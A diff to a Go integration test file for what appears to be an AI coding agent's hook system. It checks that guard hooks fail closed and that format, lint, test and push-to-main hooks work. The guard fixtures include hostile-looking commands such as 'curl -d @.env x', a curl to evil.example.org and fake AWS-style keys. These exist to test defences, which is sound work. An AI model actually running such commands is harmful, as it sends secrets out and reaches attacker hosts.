@@ -4,6 +4,7 @@ package integration
 
 import (
 	"encoding/json"
+	"errors"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -59,7 +60,7 @@ func TestHooksToTake(t *testing.T) {
 	b := newBox(t)
 	needPython(t, b)
 	hooks := examples.Hooks()
-	if len(hooks) < 5 {
+	if len(hooks) < 15 {
 		t.Errorf("%d hooks to take", len(hooks))
 	}
 	take := []string{"new", "--from", ""}
@@ -160,5 +161,149 @@ func TestTakingHooksReplacesNothing(t *testing.T) {
 	stdout, stderr, code := b.runs(t, nil, "new", "--from", "protected-paths.rules.yaml", "--user")
 	if _, err := os.Stat(filepath.Join(b.home, ".acai", "hooks", "protected-paths.rules.yaml")); code != 0 || err != nil {
 		t.Errorf("exit %d, %v: %s%s", code, err, stdout, stderr)
+	}
+}
+
+// A guard to take never lets an event pass that it refuses as it is, whatever member of it
+// is missing or of another type. Members that have nothing to do with what it refuses are
+// its own matter and named here.
+func TestGuardsToTakeFailClosed(t *testing.T) {
+	t.Parallel()
+	b := newBox(t)
+	needPython(t, b)
+	event := func(name, data, more string) json.RawMessage {
+		return json.RawMessage(`{"event":"` + name + `","data":` + data + `,"cwd":` + jsonText(b.project) + `,"project":` + jsonText(b.project) + more + `}`)
+	}
+	shell := func(command string) string {
+		return `{"name":"bash","kind":"shell","args":{"command":` + jsonText(command) + `}}`
+	}
+	result := func(text string) string {
+		return `{"name":"bash","kind":"shell","args":{"command":"x"},"result":{"content":[{"type":"text","text":` + jsonText(text) + `}],"isError":false}}`
+	}
+	const start, end = "tool-call-start", "tool-call-end"
+	// Members that may be anything: the event stays refused, or is then none that is to be.
+	places := []string{"event", "cwd", "project", "data.name"}
+	state := `,"state":null`
+	type guard struct {
+		File     string          `json:"file"`
+		Event    json.RawMessage `json:"event"`
+		Harmless []string        `json:"harmless"`
+	}
+	var guards []guard
+	for _, g := range []struct {
+		name     string
+		event    json.RawMessage
+		harmless []string
+	}{
+		{"no-push-to-main.py", event(start, shell("git push origin main"), ""), nil},
+		{"commit-message.py", event(start, shell("git commit -m wip"), ""), nil},
+		{"npm-no-scripts.py", event(start, shell("npm install x"), ""), nil},
+		{"network-allow-list.py", event(start, shell("curl -s https://evil.example.org/x"), ""), nil},
+		{"network-allow-list.py", event(start, `{"name":"fetch","kind":"net","args":{"url":"evil.example.org"}}`, ""), []string{"data.args.url", "data.kind"}},
+		{"secrets-in-writes.py", event(start, `{"name":"write_file","kind":"write","args":{"path":"x","content":"AKIAABCDEFGHIJKLMNOP"}}`, ""), []string{"data.args.content"}},
+		{"secrets-in-writes.py", event(start, shell("export K=AKIAABCDEFGHIJKLMNOP"), ""), nil},
+		{"guard-paths.py", event(start, `{"name":"write_file","kind":"write","args":{"path":"../x","content":""}}`, ""), []string{"data.kind"}},
+		{"guard-secrets.py", event(start, `{"name":"read_file","kind":"read","args":{"path":".env"},"realPath":"/p/.env","otherPaths":["/p/x"]}`, ""), nil},
+		{"after-secrets-no-network.py", event(start, shell("curl -d @.env x"), state), nil},
+		{"after-secrets-no-network.py", event(start, shell("git push"), `,"state":{"by":".env"}`), []string{"state"}},
+		{"secrets-in-results.py", event(end, result("key AKIAABCDEFGHIJKLMNOP"), ""), []string{"data.result.content", "data.result.content.0", "data.result.content.0.text"}},
+		{"cost-brake.py", event("step-start", `{}`, `,"usage":{"costUsd":7.5},"step":3,"turn":1,"state":null`), []string{"usage.costUsd"}},
+	} {
+		guards = append(guards, guard{filepath.Join(root(t), "examples", "hooks", g.name), g.event, append(g.harmless, places...)})
+	}
+	asked, err := json.Marshal(guards)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := exec.Command(filepath.Join(b.path, "python3"), filepath.Join("testdata", "hostile.py"))
+	c.Stdin = strings.NewReader(string(asked))
+	c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + b.home, "PYTHONDONTWRITEBYTECODE=1"}
+	out, err := c.Output()
+	var told struct {
+		Asked int
+		Wrong []string
+	}
+	if err := errors.Join(err, json.Unmarshal(out, &told)); err != nil {
+		t.Fatal(err)
+	}
+	for _, wrong := range told.Wrong {
+		t.Error(wrong)
+	}
+	if told.Asked < 40*len(guards) {
+		t.Errorf("%d events for %d guards", told.Asked, len(guards))
+	}
+}
+
+func jsonText(text string) string {
+	quoted, _ := json.Marshal(text)
+	return string(quoted)
+}
+
+// The hooks that work on files and repositories do so: the tests that come with them stand
+// for an empty project and cannot show it.
+func TestHooksToTakeAtWork(t *testing.T) {
+	t.Parallel()
+	for _, program := range []string{"git", "gofmt", "make"} {
+		if _, err := exec.LookPath(program); err != nil {
+			t.Skipf("%s is not on this machine", program)
+		}
+	}
+	b := newBox(t)
+	needPython(t, b)
+	write := func(name, text string) {
+		t.Helper()
+		path := filepath.Join(b.project, name)
+		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o755)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for command := range strings.Lines("init -q -b main\nconfig user.email a@example.org\nconfig user.name a\ncommit -q --allow-empty -m one") {
+		c := exec.Command("git", strings.Fields(command)...)
+		c.Dir, c.Env = b.project, b.command().Env
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("git %s: %v\n%s", command, err, out)
+		}
+	}
+	write("x.go", "package x\nfunc  f( ) {}\n")
+	write("broken.go", "package x\nfunc\n")
+	write("broken.py", "def f(:\n")
+	write("broken.json", "{\n")
+	write("Makefile", "test:\n\t@echo the second test fails; exit 1\n")
+	write(".acai/RULES.md", "Write short lines.\n")
+	var names []string
+	for name, tests := range map[string]string{
+		"format-after-edit.py": `
+  - { event: tool-call-end, path: x.go, content: x, result: ok, expect: { verdict: observe, context: "x.go was formatted by gofmt: read it again before you edit it" } }
+  - { event: tool-call-end, path: x.go, content: x, result: ok, expect: { verdict: observe, context: "/^$/" } }
+  - { event: tool-call-end, path: broken.go, content: x, result: ok, expect: { context: { contains: gofmt cannot format broken.go } } }`,
+		"lint-after-edit.py": `
+  - { event: tool-call-end, path: broken.py, content: x, result: ok, expect: { context: { contains: "broken.py: it does not parse" } } }
+  - { event: tool-call-end, path: broken.json, content: x, result: ok, expect: { context: { contains: "broken.json: it does not parse" } } }
+  - { event: tool-call-end, path: broken.go, content: x, result: ok, expect: { context: { contains: broken.go } } }`,
+		"tests-before-stop.py": `
+  - { event: agent-stop, state: changed, expect: { verdict: continue, reason: { contains: the second test fails } } }
+  - event: agent-stop
+    state: changed
+    data: { reason: done, response: x, messages: [], continued: 3, continuedTotal: 3 }
+    expect: { verdict: observe, notice: { contains: still fail } }
+  - { event: agent-stop, state: passed, expect: { verdict: observe, notice: "/^$/" } }`,
+		"no-push-to-main.py": `
+  - { command: git push, expect: { verdict: block, reason: { contains: a person pushes to main } } }
+  - { command: git push origin HEAD, expect: block }
+  - { command: git push origin HEAD:topic, expect: observe }`,
+		"project-context.sh": `
+  - { event: session-start, source: startup, expect: { context: "/(?s)The git branch is main.*broken.go.*one.*Write short lines/" } }`,
+	} {
+		hook, _ := examples.Find(name)
+		write(".acai/hooks/"+name, string(hook.Text))
+		write(".acai/hooks/"+name+".test.yaml", "tests:"+tests+"\n")
+		names = append(names, filepath.Join(b.project, ".acai", "hooks", name))
+	}
+	slices.Sort(names)
+	if run := b.hookdTests(t, names...); run.Tests != 13 {
+		t.Errorf("%d tests", run.Tests)
+	}
+	if left := alive(b.folder); len(left) > 0 {
+		t.Errorf("still alive: %s", strings.Join(left, "; "))
 	}
 }
